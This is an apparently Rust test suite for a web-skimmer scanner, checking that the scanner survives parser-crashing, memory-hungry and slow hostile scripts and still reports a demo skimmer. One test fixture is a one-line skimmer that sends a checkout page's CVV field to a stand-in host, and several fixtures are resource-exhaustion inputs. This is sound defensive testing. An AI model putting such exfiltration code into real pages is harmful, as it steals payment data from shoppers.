//! Issue 7, item 1: one hostile script must never end a scan. Before the fix, 500,000 chained
//! `a=` or 3,000,000 `!` (and the other constructs of `adversarial_support::constructs`)
//! overflowed the analysis stack and the whole process aborted (exit 134, no report), in
//! `scan`, `baseline create` and `baseline update` alike. Now the pre-scan bounds every
//! construct the parser and the walks recurse on, and the analysis runs in worker processes, so
//! whatever still kills an analysis costs that one script: an `errors[]` entry (exit 3), while
//! a skimmer next to it is still reported (exit 1).

mod adversarial_support;

use adversarial_support::{
    Measured, constructs, demo_shop, errors_of, has_finding, in_eval, page_with_scripts,
    run_measured,
};
use skimscan::inventory::ScriptKind;
use skimscan::js::worker::Limits;
use skimscan::js::{AnalysisJob, Engine, HostPolicy};
use skimscan::rules::RuleSet;
use std::sync::Arc;
use std::time::Duration;

/// Names of the hidden (`eval(atob(…))`) variants: the constructs small enough to decode.
const HIDDEN: &[&str] = &[
    "assignment-chain",
    "conditional-chain",
    "arrow-chain",
    "new-chain",
    "if-chain",
    "call-chain",
    "member-chain",
];

fn never_crashed(m: &Measured) {
    assert!(
        m.code != 134 && m.code != 139 && m.code < 128,
        "skimscan died (exit {}): {}",
        m.code,
        m.stderr
    );
}

#[test]
fn hostile_scripts_next_to_a_skimmer_are_errors_and_the_skimmer_is_still_found() {
    let dir = tempfile::tempdir().unwrap();
    let site = dir.path().join("shop");
    demo_shop(&site);
    let mut scripts: Vec<(String, String)> = Vec::new();
    for h in constructs() {
        if HIDDEN.contains(&h.name) {
            scripts.push((format!("hidden-{}.js", h.name), in_eval(&h.code)));
        }
        scripts.push((format!("{}.js", h.name), h.code));
    }
    page_with_scripts(&site, "offers.html", &scripts);
    let m = run_measured(&["scan", "--format", "json", site.to_str().unwrap()], &[]);
    never_crashed(&m);
    let report = m.json();
    assert_eq!(m.code, 1, "{}", m.stderr);
    assert!(
        has_finding(&report, "payment-data-exfiltration", "static/checkout.js"),
        "the skimmer was not reported: {:#}",
        report["findings"]
    );
    assert_eq!(report["complete"], false);
    let errors = errors_of(&report);
    for (name, _) in &scripts {
        assert!(
            errors.iter().any(|(url, _)| url.ends_with(name.as_str())),
            "{name} is not in errors[]: {errors:#?}"
        );
    }
}

#[test]
fn hostile_scripts_alone_are_an_incomplete_scan() {
    let dir = tempfile::tempdir().unwrap();
    let mut names = Vec::new();
    for h in constructs() {
        let mut variants = vec![(format!("{}.js", h.name), h.code.clone())];
        if HIDDEN.contains(&h.name) {
            variants.push((format!("hidden-{}.js", h.name), in_eval(&h.code)));
        }
        for (name, code) in variants {
            std::fs::write(dir.path().join(&name), code).unwrap();
            names.push(name);
        }
    }
    // One scan of every script as a lone target (one process: the machine is shared).
    let paths: Vec<String> = names
        .iter()
        .map(|n| dir.path().join(n).to_string_lossy().into_owned())
        .collect();
    let mut args = vec!["scan", "--format", "json"];
    args.extend(paths.iter().map(String::as_str));
    let m = run_measured(&args, &[]);
    never_crashed(&m);
    assert_eq!(m.code, 3, "{}", m.stderr);
    let report = m.json();
    assert_eq!(report["complete"], false);
    let errors = errors_of(&report);
    for name in &names {
        assert!(
            errors.iter().any(|(url, _)| url.ends_with(name.as_str())),
            "{name} is not in errors[]: {errors:#?}"
        );
    }
}

#[test]
fn baseline_create_and_update_survive_a_hostile_script() {
    let dir = tempfile::tempdir().unwrap();
    let site = dir.path().join("shop");
    demo_shop(&site);
    let hostile: Vec<(String, String)> = constructs()
        .into_iter()
        .filter(|h| ["assignment-chain", "not-chain", "quote-in-regex"].contains(&h.name))
        .map(|h| (format!("{}.js", h.name), h.code))
        .collect();
    page_with_scripts(&site, "offers.html", &hostile);
    let baseline = dir.path().join("baseline.json");
    let (b, s) = (baseline.to_str().unwrap(), site.to_str().unwrap());
    let m = run_measured(&["baseline", "create", "--out", b, s], &[]);
    never_crashed(&m);
    // The demo shop's skimmer is a finding at the default --fail-on.
    assert_eq!(m.code, 1, "{}", m.stderr);
    assert!(m.stderr.contains("incomplete"), "{}", m.stderr);
    let written: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&baseline).unwrap()).unwrap();
    assert!(written.is_object());
    let m = run_measured(&["baseline", "update", b, s], &[]);
    never_crashed(&m);
    assert_eq!(m.code, 1, "{}", m.stderr);
}

/// A worker killed by its memory limit costs its script, and the next script gets a new
/// worker: the skimmer after it is still found.
#[test]
fn a_worker_that_runs_out_of_memory_costs_one_script() {
    let dir = tempfile::tempdir().unwrap();
    let site = dir.path().join("shop");
    demo_shop(&site);
    // Ordinary code, big enough that its syntax tree does not fit the small limit below.
    let unit = "function add(a,b){var c=a+b;return c*2+Math.max(a,b)}\n";
    let big = unit.repeat(6 * 1024 * 1024 / unit.len());
    page_with_scripts(&site, "offers.html", &[("big.js".to_string(), big)]);
    let m = run_measured(
        &["scan", "--format", "json", site.to_str().unwrap()],
        // With a backtrace asked for, std's panic hook used to deadlock on the arena's
        // out-of-memory panic (see `worker::child::quiet_panics`): the worker hung to the
        // wall-clock limit in about one run in fifteen. Developers' shells often set it.
        &[
            ("SKIMSCAN_WORKER_MEMORY_MIB", "450"),
            ("RUST_BACKTRACE", "1"),
        ],
    );
    never_crashed(&m);
    let report = m.json();
    assert_eq!(m.code, 1, "{}", m.stderr);
    assert!(has_finding(
        &report,
        "payment-data-exfiltration",
        "static/checkout.js"
    ));
    let errors = errors_of(&report);
    let big = errors.iter().find(|(url, _)| url.ends_with("big.js"));
    // Either the parser's arena reports the failed allocation (caught in the worker) or the
    // worker dies of it; both name the memory limit.
    assert!(
        big.is_some_and(|(_, m)| m.contains("memory") && m.contains("450 MiB")),
        "{errors:#?}"
    );
}

/// A script that outlasts the wall-clock limit is stopped and reported; the scan goes on.
#[test]
fn a_script_over_the_wall_clock_limit_is_stopped_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("slow.js");
    // Top-level decoder loops the evaluator runs until its fuel is gone: seconds of work.
    let code = "var s='';for(var i=0;i<1e9;i++){s=s+'';}\n".repeat(12);
    std::fs::write(&path, code).unwrap();
    let m = run_measured(
        &["scan", "--format", "json", path.to_str().unwrap()],
        // A fraction of the ~0.8 s the analysis takes on an idle machine: with a whole second
        // a fast machine finished first and reported the step budget instead.
        &[("SKIMSCAN_WORKER_TIMEOUT_SECS", "0.25")],
    );
    never_crashed(&m);
    assert_eq!(m.code, 3, "{}", m.stderr);
    let errors = errors_of(&m.json());
    assert!(
        errors
            .iter()
            .any(|(url, msg)| url.ends_with("slow.js") && msg.contains("wall-clock")),
        "{errors:#?}"
    );
}

/// Library users get workers by naming the binary; results keep the order of the jobs.
#[test]
fn worker_results_keep_the_order_of_the_jobs() {
    let engine = Engine::new(
        Arc::new(RuleSet::load(false, &[]).unwrap()),
        HostPolicy::default(),
    )
    .with_workers(
        env!("CARGO_BIN_EXE_skimscan").into(),
        Limits {
            memory_mib: 2048,
            timeout: Duration::from_secs(60),
        },
    );
    let jobs: Vec<AnalysisJob> = (0..9)
        .map(|i| AnalysisJob {
            script_id: format!("s{i}"),
            kind: ScriptKind::External,
            code: match i % 3 {
                0 => "var x = 1;".into(),
                1 => "new Image().src='https://e.example/?'+document.getElementById('cvv').value;"
                    .into(),
                _ => format!("var a;a={}1;", "a=".repeat(200_000)).into(),
            },
            page_url: "t.js".into(),
            page_host: None,
            payment_page: true,
            line_offset: 1,
            column_offset: 1,
            page_fields: Vec::new(),
            page_values: Default::default(),
            page_form: Vec::new(),
        })
        .collect();
    let results = engine.analyse_batch(jobs);
    assert_eq!(results.len(), 9);
    for (i, r) in results.iter().enumerate() {
        match i % 3 {
            0 => assert!(r.findings.is_empty() && r.errors.is_empty(), "{i}: {r:?}"),
            1 => assert!(
                r.findings
                    .iter()
                    .any(|f| f.script.as_deref() == Some(&*format!("s{i}"))),
                "{i}: {r:?}"
            ),
            _ => assert!(!r.errors.is_empty(), "{i}: {r:?}"),
        }
    }
}
